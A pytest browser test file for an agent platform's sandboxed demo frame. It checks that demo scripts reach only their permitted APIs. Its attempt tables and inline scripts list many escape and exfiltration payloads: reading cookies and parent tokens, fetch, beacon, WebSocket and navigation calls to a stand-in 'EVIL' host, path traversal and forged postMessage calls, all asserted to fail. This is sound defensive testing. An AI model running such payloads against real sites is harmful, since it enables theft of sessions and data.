# SPDX-License-Identifier: Apache-2.0
"""A demo in a real browser: it calls its APIs, and whatever else its script tries comes to nothing."""

import json
import re
import uuid

import pytest
from browser import CHROMEDRIVER, CHROMIUM
from demos import api, make_demo
from ports import free_port
from support import Person, logins, wait_until
from vendor import Vendor, whole

pytestmark = pytest.mark.skipif(not (CHROMIUM and CHROMEDRIVER),
                                reason="chromium and chromedriver are not installed; tests/run.sh --full does")
ECHO = "async def run(input_dict, tools):\n    return {'said': input_dict.get('text')}"
FAILS = "async def run(input_dict, tools):\n    raise ValueError('no such luck')"
NAMES = ["echo ;,'é", "fails", "secret"]


@pytest.fixture(scope="module")
def evil():
    """Another host, which would be glad of a visit."""
    with Vendor() as vendor:
        vendor.answer("*", whole("hello", headers={"Access-Control-Allow-Origin": "*"}))
        yield vendor


@pytest.fixture(scope="module")
def server(start_module):
    port = free_port()
    env = {"FRONTEND_URL": f"http://127.0.0.1:{port}"}
    server = start_module(port=port, env=env, ready=True, sets=[logins(), "plugins.demos.token_s=3"])
    server.alice = Person(server).login("alice")
    for name, code in zip(NAMES, [ECHO, FAILS, ECHO]):
        fields = {"name": name, "friendlyName": name, "description": name, "code": code}
        agent = server.alice.post("/agents", fields).json["_id"]
        assert server.alice.post(f"/agents/{agent}/deploy").status == 201
    return server


@pytest.fixture(scope="module")
def visitor(browser, server):
    """alice, with a browser."""
    url = f"http://127.0.0.1:{server.port}"
    browser.open(f"{url}/auth/login/dev_stub?return_to=/auth/me")
    browser.click("a[href*='code=alice&']")
    wait_until(lambda: browser.run("return location.pathname") == "/auth/me", 20, "the login")
    browser.url_of_server = url
    return browser


@pytest.fixture
def show(visitor, server, evil):
    """show(js, html): opens a demo of this code; the browser is in its frame."""

    def show(js, html="<p id=p></p>", apis=NAMES[:2], css="", enter=True):
        evil.forget()
        evil.answer("*", whole("hello", headers={"Access-Control-Allow-Origin": "*"}))
        visitor.complaints()
        code = {"html": html, "css": css, "js": js.replace("EVIL", evil.url)}
        demo = make_demo(server.alice, name="A demo & <more>", selectedApis=[api(name) for name in apis], generatedCode=code)
        visitor.demo = f"/demos/{demo['_id']}/app"
        visitor.open(visitor.url_of_server + visitor.demo)
        if enter:
            visitor.enter("#frame")
        return visitor

    yield show
    visitor.leave()


def routes(server, browser):
    """What the browser asked of the server since the demo was made, each once, but for what the page before has left.
    The log is written a little later: a request of ours shows that it has come so far."""
    mark = f"/{uuid.uuid4()}"
    server.alice.get(mark)
    wait_until(lambda: mark in server.log(), 20, "the log")
    asked = set(re.findall(r"access: (\w+ \S+) ", server.log().rpartition("access: POST /demos ")[2]))
    before = {route for route in asked if re.fullmatch(r"GET /(demos/[^/]+/app(/frame)?|[0-9a-f-]{36})", route) and browser.demo not in route}
    return asked - before - {"GET /favicon.ico"}


def text(browser, selector="#p"):
    return browser.run(f"return document.querySelector('{selector}').textContent")


CALLS = """
const show = (value) => { document.getElementById('p').textContent += JSON.stringify(value) + ' '; };
const options = (value) => ({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(value) });
(async () => {
  const path = '/rest/' + encodeURIComponent(`echo ;,'é`);
  for (const url of [path, new URL(path, location.href).href, 'http://localhost:1' + path]) {
    const reply = await fetch(url, options({ text: url.slice(0, 16) }));
    show([reply.status, reply.ok, await reply.json()]);
  }
  show(await Promise.all([1, 2, 3].map(async (text) => (await (await fetch(path, options({ text }))).json()).said)));
  const failed = await fetch('/rest/fails', options({}));
  show([failed.status, await failed.json()]);
  show('end');
})();
"""


def test_it_calls_its_apis(show, server):
    browser = show(CALLS)
    wait_until(lambda: '"end"' in text(browser), 20, "the calls")
    origin = browser.url_of_server
    said = ["/rest/echo%20%3B"[:16], (origin + "/rest")[:16], "http://localhost:1"[:16]]
    wanted = [[200, True, {"said": one}] for one in said]
    wanted += [[1, 2, 3], [500, {"detail": "Error executing agent: ValueError: no such luck"}], "end"]
    assert text(browser) == "".join(json.dumps(one, separators=(",", ":"), ensure_ascii=False) + " " for one in wanted)
    echo = "POST /rest/echo%20%3B%2C'%C3%A9"
    assert routes(server, browser) <= {f"GET {browser.demo}", f"GET {browser.demo}/frame", f"POST {browser.demo}/token",
                                       echo, "POST /rest/fails"}  # fmt: skip
    browser.leave()
    assert browser.run("return document.title") == "A demo & <more>" and text(browser, "#said") == ""
    assert text(browser, "#calls") == "may call echo ;,'é, fails"
    assert [line for line in browser.complaints() if not re.search("status of 500|favicon", line)] == []


def test_code_stands_as_it_was_written(show):
    """What would end a script or a style sheet does not; forms tell their script."""
    js = """
      const end = '</script><b id=out>', open = '<!--<script>';
      document.forms[0].addEventListener('submit', (event) => {
        event.preventDefault();
        document.getElementById('p').textContent = end + open + new FormData(event.target).get('n');
      });"""
    browser = show(js, "<p id=p></p><form><input name=n value=7><button>go</button></form>",
                   css="p::after { content: '</style><b id=out>'; } button { color: rgb(1, 2, 3); }")  # fmt: skip
    browser.click("button")
    assert text(browser) == "</script><b id=out><!--<script>7"
    assert browser.run("return document.getElementById('out')") is None
    assert browser.run("return getComputedStyle(document.querySelector('button')).color") == "rgb(1, 2, 3)"


# ---- what is tried, and comes to nothing ----

# Each is an async function's body; what it returns has been got, what it throws has not.
ATTEMPTS = {
    "cookies": "return document.cookie",
    "writing cookies": "document.cookie = 'a=b'; return 'written'",
    "localStorage": "return localStorage.length",
    "sessionStorage": "return sessionStorage.length",
    "indexedDB": "return await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
    "caches": "return await caches.open('x')",
    "parent's document": "return parent.document.title",
    "parent's token": "return parent.document.body.dataset.token",
    "top's address": "return top.location.href",
    "parent's variables": "return parent.frame()",
    "top elsewhere": "top.location = 'EVIL/top'; return 'gone'",
    "top's history": "top.history.back(); return 'gone'",
    "a window": "if (window.open('EVIL/window')) return 'open'; throw 0",
    "another route": "return (await fetch('/agents', { method: 'POST', body: '{}' })).status",
    "a list": "return (await fetch('/agents')).status",
    "another agent": "return (await fetch('/rest/secret', { method: 'POST', body: '{}' })).status",
    "its own by GET": "return (await fetch('/rest/fails')).status",
    "a token": "return (await fetch(location.pathname.replace('frame', 'token'), { method: 'POST' })).status",
    "a path in a name": "return (await fetch('/rest/..%2Fagents', { method: 'POST', body: '{}' })).status",
    "another host": "return (await fetch('EVIL/fetch')).status",
    "another host by POST": "return (await fetch('EVIL/rest/secret', { method: 'POST', body: 'x' })).status",
    "XMLHttpRequest": "return await request('GET', '/agents')",
    "XMLHttpRequest to its API": "return await request('POST', '/rest/fails')",
    "XMLHttpRequest elsewhere": "return await request('GET', 'EVIL/xhr')",
    "the fetch of a frame": "const f = document.body.appendChild(document.createElement('iframe'));"
                            "return await f.contentWindow.fetch('EVIL/frame')",
    "a socket": "return await came(new WebSocket('EVIL/socket'.replace('http', 'ws')), 'open')",
    "events": "return await came(new EventSource('EVIL/events'), 'open')",
    "a picture": "return await loads('img', { src: 'EVIL/picture' })",
    "a picture of ours": "return await loads('img', { src: '/docs' })",
    "a script": "return await loads('script', { src: 'EVIL/script' })",
    "a module": "return await import('EVIL/module')",
    "a style sheet": "return await loads('link', { rel: 'stylesheet', href: 'EVIL/style' })",
    "a font": "return await new FontFace('x', 'url(EVIL/font)').load()",
    "a film": "return await loads('video', { src: 'EVIL/film' }, 'loadeddata')",
    "a prefetch": "return await loads('link', { rel: 'prefetch', href: 'EVIL/prefetch' })",
    "a preload": "return await loads('link', { rel: 'preload', as: 'fetch', href: 'EVIL/preload' })",
    "a worker": "return await came(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message')",
    "a service worker": "return await navigator.serviceWorker.register('/docs')",
    "eval": "return eval('1 + 1')",
    "WebRTC": "return new RTCPeerConnection()",
    "WebRTC by another name": "return new webkitRTCPeerConnection()",
    "a handler in html": "return await new Promise((yes, no) => { window.yes = yes; setTimeout(no, 100);"
                         "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=yes(1)>'); })",
    "a script in html": "const s = document.createElement('script'); s.text = 'window.ran = 1'; document.body.append(s); if (window.ran) return 1; throw 0",
    "a javascript: link": "location = 'javascript:window.ran = 1'; await new Promise((go) => setTimeout(go, 50)); if (window.ran) return 1; throw 0",
    "a forged call": "return await asked({ einion: 'call', id: 'x', name: 'secret', body: '{}' })",
    "a forged path": "return await asked({ einion: 'call', id: 'x', name: '../agents', body: '{}' })",
    "a forged body": "return await asked({ einion: 'call', id: 'x', name: 'fails', body: { a: 1 } })",
    "a forged name": "return await asked({ einion: 'call', id: 'x', name: ['fails'], body: '{}' })",
}
TRY = """
const request = (method, url) => new Promise((yes, no) => {
  const r = new XMLHttpRequest(); r.open(method, url); r.onload = () => yes(r.status); r.onerror = no; r.send();
});
const came = (source, event) => new Promise((yes, no) => { source.addEventListener(event, () => yes(event)); source.addEventListener('error', no); });
const loads = (name, attributes, event = 'load') => {
  const element = Object.assign(document.createElement(name), attributes);
  const result = came(element, event);
  document.body.append(element);
  return result;
};
const asked = (message) => new Promise((yes, no) => {
  addEventListener('message', ({ data }) => { if (data.id === 'x') data.failed ? no(data.failed) : yes(data.status); });
  parent.postMessage(message, '*');
});
const got = {};
(async () => {
  for (const [name, attempt] of ATTEMPTS) {
    try { got[name] = String(await attempt()); } catch (error) { got[name] = null; }
    if (got[name] === null) delete got[name];
  }
  document.getElementById('p').textContent = 'tried ' + JSON.stringify(got);
})();
"""


def test_whatever_else_it_tries_comes_to_nothing(show, server, evil):
    attempts = ", ".join(f"[{json.dumps(name)}, async () => {{ {code} }}]" for name, code in ATTEMPTS.items())
    browser = show(f"const ATTEMPTS = [{attempts}];" + TRY)
    wait_until(lambda: text(browser).startswith("tried"), 40, "the attempts")
    assert text(browser) == "tried {}"
    # What no script is told the end of.
    browser.run("""
      navigator.sendBeacon(arguments[0] + '/beacon', 'x');
      document.body.insertAdjacentHTML('beforeend', `<div style="background: url(${arguments[0]}/css)">x</div>
        <object data="${arguments[0]}/object"></object><embed src="${arguments[0]}/embed">
        <iframe src="${arguments[0]}/nested"></iframe><iframe src="/agents"></iframe>
        <iframe srcdoc="<script>fetch('${arguments[0]}/doc'); parent.parent.postMessage({einion: 'call', id: 1, name: 'fails', body: '{}'}, '*')</script>"></iframe>
        <a id=a href="${arguments[0]}/top" target=_top ping="${arguments[0]}/ping">x</a>
        <a id=b href="${arguments[0]}/blank" target=_blank>x</a>`);
      for (const id of ['a', 'b']) document.getElementById(id).click();""", evil.url)  # fmt: skip
    done = "return fetch('/rest/fails', { method: 'POST', body: '{}' }).then((reply) => reply.status)"
    assert browser.run(done) == 500  # it is still there, and a round trip later nothing else has come
    wait_until(lambda: "POST /rest/fails" in routes(server, browser), 20, "the log")
    assert evil.requests == []
    assert routes(server, browser) == {f"GET {browser.demo}", f"GET {browser.demo}/frame", "POST /rest/fails"}
    browser.leave()
    assert browser.run("return location.pathname") == browser.demo
    assert len(browser.call("GET", f"{browser.session}/window/handles")) == 1
    assert server.alice.get("/auth/me").status == 200


REFUSED = r"(frame-src|form-action)|Not allowed to|sandboxed"
def test_a_frame_in_the_frame_has_no_more(show, evil):
    """What runs there is the same script, and begins like it."""
    js = """
      if (parent !== top) {
        parent.postMessage('inner ' + typeof RTCPeerConnection, '*');
        new Image().src = 'EVIL/inner';
      } else {
        addEventListener('message', ({ data }) => { if (data.startsWith?.('inner')) document.getElementById('p').textContent = data; });
        const text = document.currentScript.text;
        const inner = document.createElement('iframe');
        inner.srcdoc = `<script>parent.postMessage('inner ran', '*')</script><script>${text}</script>`;
        document.body.append(inner);
      }"""
    browser = show(js)
    wait_until(lambda: text(browser), 20, "the inner frame")
    assert text(browser) == "inner undefined" and evil.requests == []


LEAVES = {
    "address": "location = 'EVIL/address?' + document.title",
    "replace": "location.replace('EVIL/replace')",
    "a link": "const a = document.createElement('a'); a.href = 'EVIL/link'; document.body.append(a); a.click()",
    "a download": "const a = document.createElement('a'); a.href = 'EVIL/download'; a.download = 'x'; document.body.append(a); a.click()",
    "a window of its own name": "window.open('EVIL/self', '_self')",
    "refresh": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=EVIL/refresh\">'",
    "a form": "const f = document.createElement('form'); f.action = 'EVIL/form'; document.body.append(f); f.submit()",
    "a form of ours": "const f = document.createElement('form'); f.action = '/auth/logout'; f.method = 'post'; document.body.append(f); f.submit()",
    "another route": "location = '/agents'",
    "the page round it": "location = location.pathname.replace('/frame', '')",
    "a document of its own": "location = URL.createObjectURL(new Blob(['<script>fetch(`EVIL/blob`)</script>'], { type: 'text/html' }))",
    "data": "location = 'data:text/html,<script>fetch(`EVIL/data`)</script>'",
}


@pytest.mark.parametrize("name", LEAVES)
def test_it_does_not_go_elsewhere(show, server, evil, name):
    browser = show(LEAVES[name], enter=False)
    wait_until(lambda: any(re.search(REFUSED, line) for line in browser.complaints()), 20, "the browser to refuse")
    assert evil.requests == []
    assert routes(server, browser) <= {f"GET {browser.demo}", f"GET {browser.demo}/frame"}
    assert browser.run("return location.pathname") == browser.demo


def test_the_frame_is_nothing_without_its_page(show, visitor):
    browser = show("document.getElementById('p').textContent = 'ran'", enter=False)
    browser.open(browser.url_of_server + browser.demo + "/frame")
    assert "which frames this" in browser.run("return document.body.textContent")


def test_another_page_does_not_frame_it(show, evil):
    browser = show("", enter=False)
    for path in ("", "/frame"):
        page = f"<!doctype html><iframe src='{browser.url_of_server}{browser.demo}{path}'></iframe>"
        evil.answer("/framing", whole(page, headers={"Content-Type": "text/html"}))
        browser.open(evil.url + "/framing")
        wait_until(lambda: any("frame-ancestors" in line for line in browser.complaints()), 20, "the browser to refuse")


# ---- the token ----

CALL = "return fetch('/rest/fails', { method: 'POST', body: '{}' }).then((reply) => reply.status, (error) => error.message)"
TOKEN = "return document.body.dataset.token"


def has_ended(server, token):
    reply = server.post("/rest/fails", {}, headers={"Authorization": f"Bearer {token}"})
    return reply.status == 401 and re.match("This token of a demo (has ended|is not known)", reply.detail)


def test_a_page_goes_on_when_its_token_ends(show, server):
    browser = show("")
    browser.leave()
    token = browser.run(TOKEN)
    wait_until(lambda: has_ended(server, token), 20, "the token to end")
    browser.enter("#frame")
    assert browser.run(CALL) == 500
    browser.leave()
    assert browser.run(TOKEN) not in (None, "", token)


def test_what_a_script_fails_of_is_shown(show):
    browser = show("document.body.append(nothing_of_that_name)", enter=False)
    wait_until(lambda: text(browser, "#said"), 20, "the page to say so")
    assert text(browser, "#said") == "Uncaught ReferenceError: nothing_of_that_name is not defined"


def test_who_has_logged_out_is_told(show, server, visitor):
    """The last: the browser is nobody's then."""
    browser = show("")
    browser.leave()
    token = browser.run(TOKEN)
    visitor.call("DELETE", f"{visitor.session}/cookie")
    wait_until(lambda: has_ended(server, token), 20, "the token to end")
    browser.enter("#frame")
    assert browser.run(CALL) == "You are no longer logged in: load this page again."
    browser.leave()
    assert text(browser, "#said") == "You are no longer logged in: load this page again."
